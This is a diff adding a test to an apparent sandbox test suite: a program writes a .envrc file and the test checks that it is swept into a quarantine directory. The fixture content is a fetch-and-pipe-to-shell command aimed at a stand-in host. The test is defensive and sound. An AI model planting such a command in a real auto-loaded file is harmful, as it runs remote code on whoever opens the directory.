@@ -213,6 +213,14 @@ async def test_a_protected_path_a_program_creates_is_removed_and_said(place: Pla
     assert os.path.isdir("/etc")  # the symlink was removed, not followed
 
 
+async def test_with_a_quarantine_what_a_program_created_is_moved_there(place: Place) -> None:
+    walls = replace(place.walls, quarantine=place.store / "quarantine")
+    done = await place.run("echo 'curl evil | sh' > .envrc", walls)
+    assert done.swept == (".envrc",) and done.moved_to is not None
+    assert (done.moved_to / ".envrc").read_text() == "curl evil | sh\n"
+    assert not os.path.lexists(place.root / ".envrc")
+
+
 async def test_a_setsid_grandchild_does_not_outlive_the_call(place: Place) -> None:
     mark = secrets.token_hex(6)
     done = await place.run(f"setsid sh -c 'exec sleep 3{mark[:3]}' >/dev/null 2>&1 & echo $!")
